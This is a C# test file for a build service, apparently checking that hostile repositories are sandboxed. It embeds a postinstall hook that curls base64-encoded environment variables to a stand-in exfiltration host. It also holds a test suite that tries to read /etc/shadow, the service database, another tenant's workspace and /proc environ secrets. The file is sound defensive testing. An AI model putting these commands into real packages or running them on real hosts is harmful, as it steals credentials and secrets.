using System.Text.Json.Nodes;
using Builder.Tests.Agents;
using Builder.Tests.Support;

namespace Builder.Tests.Execution;

/// <summary>
/// Hostile repositories through the whole pipeline, as Builder runs them by default. Each one's
/// attack lives in its install hook or its test suite; the run still completes because the
/// repository's legitimate restore, build and tests work, and the attack is refused and reported.
/// </summary>
public sealed class HostileRepositoryTests(EmbeddedBuilder builder) : IClassFixture<EmbeddedBuilder>
{
    const string ExfiltrationHost = "collector.exfiltration.example";

    static async Task<JsonNode> RunAsync(BuilderApi api, TestRepository repository)
    {
        var repositoryId = await api.RegisterRepositoryAsync(repository.RemotePath);
        var id = await api.SubmitAsync(repositoryId, "Docs", [BuilderApi.File("README.md", "# package\n\nMore.\n", "replace")]);
        return await api.WaitForEndAsync(id, TimeSpan.FromMinutes(4));
    }

    [Fact]
    public async Task A_postinstall_that_phones_home_is_refused_and_reported_while_the_registry_restore_works()
    {
        using var repository = TestRepository.Create(new Dictionary<string, string>
        {
            ["package.json"] = $$"""
                {
                  "name": "phones-home",
                  "version": "1.0.0",
                  "private": true,
                  "dependencies": { "is-number": "7.0.0" },
                  "scripts": {
                    "postinstall": "curl -sS -m 20 https://{{ExfiltrationHost}}/collect -d \"$(env | base64 -w0)\" || echo exfiltration-failed",
                    "test": "node --test"
                  }
                }
                """,
            // The dependency came from the registry through the proxy: the legitimate restore worked.
            ["test/uses-dependency.test.js"] = """
                const test = require('node:test');
                const assert = require('node:assert');
                test('is-number from the registry works', () => assert.strictEqual(require('is-number')(5), true));
                """,
            ["README.md"] = "# package\n",
        });

        var api = builder.Admin();
        var run = await RunAsync(api, repository);

        run["status"]!.GetValue<string>().ShouldBe("Completed", run.ToJsonString());
        var events = await api.EventsAsync(run["id"]!.GetValue<Guid>());
        var denied = events.Where(e => (string?)e!["type"] == "egress.denied").Select(e => e!["payload"]!).ToList();
        denied.ShouldNotBeEmpty(events.ToJsonString());
        denied.ShouldAllBe(d => (string?)d!["host"] == ExfiltrationHost && (int?)d["port"] == 443 && (string?)d["step"] == "restore");
        var log = await api.Http.GetStringAsync($"/api/features/{run["id"]}/artifacts/build.log");
        log.ShouldContain($"[builder] egress refused: {ExfiltrationHost}:443");
        log.ShouldContain("exfiltration-failed");
    }

    [Fact]
    public async Task A_host_the_repository_settings_allow_is_reached_during_restore()
    {
        using var feed = new LoopbackHttpHost("company feed");
        using var repository = TestRepository.Create(new Dictionary<string, string>
        {
            ["package.json"] = $$"""
                {
                  "name": "company-feed",
                  "version": "1.0.0",
                  "private": true,
                  "scripts": {
                    "postinstall": "curl -sS -m 20 http://127.0.0.1:{{feed.Port}}/internal-tool.tgz > fetched.txt",
                    "test": "node --test"
                  }
                }
                """,
            ["test/fetched.test.js"] = """
                const test = require('node:test');
                const assert = require('node:assert');
                test('the allowed feed answered during restore', () => assert.strictEqual(require('fs').readFileSync('fetched.txt', 'utf8'), 'company feed'));
                """,
            ["README.md"] = "# package\n",
        });
        var api = builder.Admin();
        var repositoryId = await api.RegisterRepositoryAsync(repository.RemotePath, settings: new { egress = new[] { $"127.0.0.1:{feed.Port}" } });

        var id = await api.SubmitAsync(repositoryId, "Docs", [BuilderApi.File("README.md", "# package\n\nMore.\n", "replace")]);
        var run = await api.WaitForEndAsync(id, TimeSpan.FromMinutes(4));

        run["status"]!.GetValue<string>().ShouldBe("Completed", run.ToJsonString());
        feed.Requests.ShouldContain("GET /internal-tool.tgz HTTP/1.1");
        (await api.EventsAsync(id)).ShouldNotContain(e => (string?)e!["type"] == "egress.denied");
    }

    [Fact]
    public async Task A_test_suite_that_reads_host_secrets_other_workspaces_and_the_database_finds_nothing()
    {
        Environment.SetEnvironmentVariable("BUILDER_TEST_WORKER_SECRET", "worker-env-secret-5b7e");
        var workspaces = Path.Combine(builder.DataDirectory, "workspaces");
        var otherWorkspace = Directory.CreateDirectory(Path.Combine(workspaces, "other-tenants-run")).FullName;
        File.WriteAllText(Path.Combine(otherWorkspace, "Program.cs"), "other-tenant-code");
        var database = Directory.EnumerateFiles(builder.DataDirectory, "*.db").First();
        var targets = new[] { "/etc/shadow", "/etc/gshadow", database, Path.Combine(otherWorkspace, "Program.cs") };
        using var repository = TestRepository.Create(new Dictionary<string, string>
        {
            ["package.json"] = """
                { "name": "snoops", "version": "1.0.0", "private": true, "scripts": { "test": "node --test" } }
                """,
            ["test/snoop.test.js"] = $$"""
                const test = require('node:test');
                const assert = require('node:assert');
                const fs = require('node:fs');
                const path = require('node:path');
                const targets = {{System.Text.Json.JsonSerializer.Serialize(targets)}};

                test('no host secret, database or other workspace can be read', () => {
                  for (const target of targets) {
                    let content = null;
                    try { content = fs.readFileSync(target, 'utf8'); } catch { }
                    assert.ok(content === null || content === '', `${target} was readable: ${String(content).slice(0, 80)}`);
                  }
                });

                test('the workspaces folder shows this run only', () => {
                  const own = path.basename(process.cwd());
                  for (const entry of fs.readdirSync({{System.Text.Json.JsonSerializer.Serialize(workspaces)}}))
                    assert.ok(entry.startsWith(own), `another workspace is visible: ${entry}`);
                });

                test('the worker environment is not inherited', () => {
                  assert.ok(!JSON.stringify(process.env).includes('worker-env-secret-5b7e'));
                  for (const pid of fs.readdirSync('/proc').filter(p => /^\d+$/.test(p))) {
                    let environ = '';
                    try { environ = fs.readFileSync(`/proc/${pid}/environ`, 'utf8'); } catch { }
                    assert.ok(!environ.includes('worker-env-secret-5b7e'), `pid ${pid} shows the worker's environment`);
                  }
                });

                test('the legitimate suite still runs and writes its workspace', () => {
                  fs.writeFileSync('built.txt', 'ok');
                  assert.strictEqual(fs.readFileSync('built.txt', 'utf8'), 'ok');
                });
                """,
            ["README.md"] = "# package\n",
        });

        var run = await RunAsync(builder.Admin(), repository);

        // The suite's assertions are the attack: had any read succeeded, Verify would have failed.
        run["status"]!.GetValue<string>().ShouldBe("Completed", run.ToJsonString());
        File.Exists(database).ShouldBeTrue();
    }
}
